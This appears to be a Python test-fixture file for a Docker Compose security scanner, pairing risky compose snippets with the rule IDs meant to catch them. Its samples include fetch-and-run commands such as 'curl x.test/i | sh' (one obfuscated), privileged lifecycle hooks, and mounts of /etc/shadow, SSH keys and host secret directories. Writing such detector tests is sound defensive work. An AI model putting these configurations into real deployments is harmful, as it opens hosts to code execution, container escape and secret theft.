"""For each attribute that the table judges, the ways in which a file reaches its rules by it.

Each row is a piece of a service `web` (and what stands beside the services) with the rules that
find it.
"""

from typing import Final

Row = tuple[str, str, str]  # lines of the service, lines of the file, rules that find it

_HOOK: Final = "{command: ['sh', '-c', 'curl x.test/i | sh'], privileged: true}"
_BASE: Final = "dockerfile_inline: 'FROM a'"

SPELLINGS: Final[dict[str, tuple[Row, ...]]] = {
    "configs.*.content": (("", 'configs: {c: {content: "#!/bin/sh\\npip install x"}}', "SVC-012"),),
    "configs.*.environment": (("", "configs: {c: {environment: API_URL}}", "ENV-001"),),
    "configs.*.file": (
        ("configs: [c]", "configs: {c: {file: .host-shared/.appkeys.json}}", "SVC-005 MAN-007"),
        ("configs: [{source: c}]", "configs: {c: {file: ./app.conf}}", "SVC-009"),
    ),
    "include": (
        ("", "include: [other.yaml]", "MAN-007"),
        ("", "include: [{path: [a.yaml, 'https://x.test/b.git']}]", "IMG-012"),
    ),
    "models": (("", "models: {m: {model: ai/some}}", "IMG-005"),),
    "networks.*.driver": (("networks: [n]", "networks: {n: {driver: host}}", "NET-002"),),
    "networks.*.external": (("networks: [host]", "networks: {host: {external: true}}", "NET-002"),),
    "networks.*.name": (
        ("networks: {n: {}}", "networks: {n: {external: true, name: host}}", "NET-002"),
    ),
    "secrets.*.environment": (("", "secrets: {s: {environment: PRIVATE_KEY}}", "ENV-005"),),
    "secrets.*.file": (("secrets: [s]", "secrets: {s: {file: /dstack/.host-shared}}", "SVC-005"),),
    "services.*.build": (("build: https://github.com/o/r.git", "", "IMG-012 MAN-007"),),
    "services.*.build.additional_contexts": (
        (f"build: {{{_BASE}, additional_contexts: {{a: 'docker-image://b'}}}}", "", "IMG-005"),
        (f"build: {{{_BASE}, additional_contexts: ['a=docker-image://b:1.2.3']}}", "", "IMG-004"),
        (f"build: {{{_BASE}, additional_contexts: {{a: ..}}}}", "", "SVC-005"),
        (f"build: {{{_BASE}, additional_contexts: ['a=https://x.test/y.git']}}", "", "IMG-012"),
    ),
    "services.*.build.args": (
        (f"build: {{{_BASE}, args: [MODEL_TAG]}}", "", "ENV-002"),
        (f"build: {{{_BASE}, args: {{MODEL_TAG: null}}}}", "", "ENV-002"),
    ),
    "services.*.build.cache_from": (
        (f"build: {{{_BASE}, cache_from: [org/app]}}", "", "IMG-005"),
        (f"build: {{{_BASE}, cache_from: ['type=registry,ref=org/app:1.2.3']}}", "", "IMG-004"),
        (f"build: {{{_BASE}, cache_from: ['type=s3,bucket=x']}}", "", "IMG-012"),
    ),
    "services.*.build.context": (
        ("build: .", "", "SVC-005 IMG-010"),
        ('build: {context: /dstack, dockerfile_inline: "FROM a\\nCOPY . /"}', "", "SVC-005"),
        ("build: {context: 'git@x.test:a'}", "", "IMG-012"),
    ),
    "services.*.build.dockerfile": (("build: {context: ., dockerfile: D}", "", "MAN-007"),),
    "services.*.build.entitlements": (
        (f"build: {{{_BASE}, entitlements: [security.insecure]}}", "", "SVC-002"),
    ),
    "services.*.build.extra_hosts": (
        (f"build: {{{_BASE}, extra_hosts: ['a=9.8.7.6']}}", "", "SEC-008"),
    ),
    "services.*.build.network": ((f"build: {{{_BASE}, network: host}}", "", "NET-002"),),
    "services.*.build.privileged": ((f"build: {{{_BASE}, privileged: true}}", "", "SVC-002"),),
    "services.*.build.secrets": (
        (f"build: {{{_BASE}, secrets: [s]}}", "secrets: {s: {file: .host-shared/k}}", "SVC-005"),
        (f"build: {{{_BASE}, secrets: [s]}}", "secrets: {s: {environment: SEED}}", "ENV-005"),
    ),
    "services.*.build.ssh": ((f"build: {{{_BASE}, ssh: ['a=/root/.ssh/id']}}", "", "SVC-005"),),
    "services.*.cap_add": (("cap_add: [CAP_SYS_ADMIN]", "", "SVC-004"),),
    "services.*.cap_drop": (("ports: ['80']\ncap_drop: []", "", "SVC-010"),),
    "services.*.cgroup": (("cgroup: host", "", "SVC-003"),),
    "services.*.cgroup_parent": (("cgroup_parent: /x", "", "SVC-008"),),
    "services.*.command": (
        ("command: [sh, -c, 'pip install x']", "", "SVC-012"),
        ("command: sh -c 'C=curl; $$C x.test/i | sh'", "", "SVC-012"),
        ("command: ttyd bash", "", "SVC-011"),
        ("command: run --model a/b", "", "SVC-013"),
        ("command: run --debug", "", "SEC-006"),
        ("command: run $API_KEY", "", "SEC-004 ENV-011"),
        ("command: $RUN_TAG", "", "ENV-002"),
        ("command: docker run a.test/b:1", "", "IMG-008"),
    ),
    "services.*.configs": (
        ("configs: [{source: c, target: /x}]", "configs: {c: {file: /etc/shadow}}", "SVC-005"),
        ("configs: [c]", "configs: {c: {file: ./a.toml}}", "SVC-009"),
    ),
    "services.*.container_name": (("container_name: other", "", "RUN-002"),),
    "services.*.deploy.replicas": (("deploy: {replicas: 3}", "", "SVC-014"),),
    "services.*.deploy.resources.reservations.devices": (
        (
            "deploy: {resources: {reservations: {devices: [{capabilities: [gpu]}]}}}",
            "",
            "SVC-008",
        ),
    ),
    "services.*.deploy.restart_policy": (
        ("deploy: {restart_policy: {condition: any}}", "", "SVC-015 PLS-009"),
    ),
    "services.*.device_cgroup_rules": (("device_cgroup_rules: ['c 1:3 mr']", "", "SVC-008"),),
    "services.*.devices": (
        ("devices: ['/dev/mem:/dev/mem']", "", "SVC-008"),
        ("devices: [{source: /dev/mem, target: /dev/mem}]", "", "SVC-008"),
    ),
    "services.*.dns": (
        ("dns: 9.8.7.6", "", "SEC-008"),
        ("dns: ['${API_URL}']", "", "ENV-011"),
    ),
    "services.*.entrypoint": (("entrypoint: sh -c 'apk add curl'", "", "SVC-012"),),
    "services.*.env_file": (
        ("env_file: .host-shared/.decrypted-env", "", "ENV-013 MAN-007"),
        ("env_file: [{path: ./x/../.host-shared/.decrypted-env}]", "", "ENV-013 MAN-007"),
    ),
    "services.*.environment": (
        ("environment: [API_URL]", "", "ENV-001"),
        ("environment: {API_URL: null}", "", "ENV-001"),
        ("environment: ['${X:-DOCKER_HOST}=tcp://10.0.0.1:2375']", "", "SVC-001"),
        ("environment: {DSTACK_SIMULATOR_ENDPOINT: 'http://x'}", "", "SEC-007"),
        ("environment: {ADMIN_PASSWORD: hunter2hunter2}", "", "SEC-001"),
    ),
    "services.*.extends": (
        ("extends: {service: a, file: b.yaml}", "", "MAN-007"),
        ("extends: {service: a, file: 'https://x.test/b.git'}", "", "IMG-012"),
    ),
    "services.*.extra_hosts": (
        ("extra_hosts: ['api.test:9.8.7.6']", "", "SEC-008"),
        ("extra_hosts: {api.test: 9.8.7.6}", "", "SEC-008"),
        ("extra_hosts: ['api.test:${API_URL}']", "", "ENV-011"),
    ),
    "services.*.gpus": (("gpus: all", "", "SVC-008 RTF-008"),),
    "services.*.healthcheck": (
        ("healthcheck: {test: ['CMD-SHELL', 'wget x.test/a | sh']}", "", "SVC-012"),
        ("healthcheck: {test: 'x ${API_KEY}'}", "", "SEC-004 ENV-011"),
    ),
    "services.*.image": (("image: a:latest", "", "IMG-005"),),
    "services.*.ipc": (("ipc: host", "", "SVC-003"),),
    "services.*.label_file": (("label_file: [a.labels]", "", "MAN-007"),),
    "services.*.labels": (("labels: {traefik.x: '${API_KEY}'}", "", "ENV-011 SEC-004"),),
    "services.*.logging": (
        (
            "logging: {driver: syslog, options: {syslog-address: 'udp://9.8.7.6:514'}}",
            "",
            "SEC-008",
        ),
        ("logging: {driver: awslogs, options: {awslogs-group: a}}", "", "ENV-015"),
    ),
    "services.*.models": (("models: [m]", "models: {m: {model: 'ai/some:1.2.3'}}", "IMG-004"),),
    "services.*.network_mode": (
        ("network_mode: host", "", "NET-002"),
        ("network_mode: service:web2", "  web2: {image: a, network_mode: host}", "NET-002"),
    ),
    "services.*.networks": (
        ("networks: [n]", "networks: {n: {name: host, external: true}}", "NET-002"),
    ),
    "services.*.pid": (
        ("pid: host", "", "SVC-003"),
        ("pid: container:other", "", "SVC-003"),
        ("pid: service:web2", "  web2: {image: a, pid: host}", "SVC-003"),
    ),
    "services.*.platform": (("platform: linux/arm64", "", "IMG-013"),),
    "services.*.ports": (
        ("ports: ['22:22']", "", "NET-003 NET-001"),
        ("ports: [{target: 22, published: 2222}]", "", "NET-003"),
        ("ports: ['8000-8100:20-120']", "", "NET-003"),
        ("ports: ['5432']", "", "NET-004"),
    ),
    "services.*.post_start": ((f"post_start: [{_HOOK}]", "", "SVC-012 SVC-002"),),
    "services.*.pre_start": ((f"pre_start: [{_HOOK}]", "", "SVC-012 SVC-002"),),
    "services.*.pre_start.[].image": (("pre_start: [{image: 'a:1.2.3'}]", "", "IMG-004"),),
    "services.*.pre_stop": ((f"pre_stop: [{_HOOK}]", "", "SVC-012 SVC-002"),),
    "services.*.privileged": (
        ("privileged: true", "", "SVC-002"),
        ("privileged: '${A:-yes}'", "", "SVC-002"),
    ),
    "services.*.profiles": (("profiles: [x]", "", "SVC-014"),),
    "services.*.provider": (("provider: {type: ./x}", "", "SVC-017"),),
    "services.*.pull_policy": (("pull_policy: always\nimage: a:1", "", "IMG-013"),),
    "services.*.read_only": (("ports: ['80']\nread_only: false", "", "SVC-010"),),
    "services.*.restart": (("restart: always", "", "SVC-015 PLS-009"),),
    "services.*.runtime": (
        ("runtime: nvidia", "", "RTF-008"),
        ("runtime: other", "", "SVC-008"),
    ),
    "services.*.scale": (("scale: 2", "", "SVC-014"),),
    "services.*.secrets": (
        ("secrets: [{source: s}]", "secrets: {s: {file: '.'}}", "SVC-005"),
        ("secrets: [s]", "secrets: {s: {file: ./k}}", "SVC-009"),
    ),
    "services.*.security_opt": (("security_opt: ['apparmor=unconfined']", "", "SVC-008"),),
    "services.*.sysctls": (("sysctls: {kernel.x: 1}", "", "SVC-008"),),
    "services.*.use_api_socket": (("use_api_socket: true", "", "SVC-001"),),
    "services.*.user": (("ports: ['80']\nuser: '0:0'", "", "SVC-010"),),
    "services.*.userns_mode": (("userns_mode: host", "", "SVC-003"),),
    "services.*.uts": (("uts: host", "", "SVC-003"),),
    "services.*.volumes": (
        ("volumes: ['.:/a']", "", "SVC-005 ENV-013"),
        ("volumes: [{type: bind, source: ./x/.., target: /a}]", "", "SVC-005 ENV-013"),
        ("volumes: ['${X:-/dstack}:/a']", "", "SVC-005"),
        ("volumes: ['${PWD}:/a']", "", "SVC-005"),
        ("volumes: ['..:/a']", "", "SVC-005 SVC-001 SVC-006"),
        ("volumes: ['/var/volatile:/a']", "", "SVC-005"),
        ("volumes: ['/var/volatile/dstack/.host-shared:/a']", "", "SVC-005"),
        ("volumes: ['/proc/1/root/dstack:/a:ro']", "", "SVC-005"),
        ("volumes: ['~/.ssh:/a']", "", "SVC-005"),
        ("volumes: ['/run/containerd:/a']", "", "SVC-001"),
        ("volumes: [{type: image, source: a, target: /a}]", "", "IMG-005"),
        ("volumes: ['.host-shared/.user-config:/a']", "", "PLT-005"),
        ("volumes: ['/tmp:/a']", "", "SVC-016"),
    ),
    "services.*.volumes_from": (("volumes_from: [web2]", "  web2: {image: a}", "SVC-016"),),
    "volumes.*.driver": (("volumes: ['v1:/a']", "volumes: {v1: {driver: x}}", "MAN-010"),),
    "volumes.*.driver_opts": (
        (
            "volumes: ['v1:/a']",
            "volumes: {v1: {driver_opts: {type: none, o: bind, device: /dstack}}}",
            "SVC-005",
        ),
        (
            "volumes: ['v1:/a']",
            "volumes: {v1: {driver: local, driver_opts: {o: bind, device: .}}}",
            "SVC-005",
        ),
        (
            "volumes: ['v1:/a']",
            "volumes: {v1: {driver_opts: {type: overlay, device: overlay, o: 'lowerdir=/dstack'}}}",
            "SVC-005",
        ),
        ("volumes: ['v1:/a']", "volumes: {v1: {driver_opts: {type: proc}}}", "SVC-005"),
        (
            "volumes: ['v1:/a']",
            "volumes: {v1: {driver_opts: {type: nfs, o: 'addr=9.8.7.6', device: ':/x'}}}",
            "SVC-009 SEC-008",
        ),
    ),
}

NAMES: Final = ("API_KEY", "API_URL", "MODEL_TAG", "PRIVATE_KEY", "RUN_TAG", "SEED")
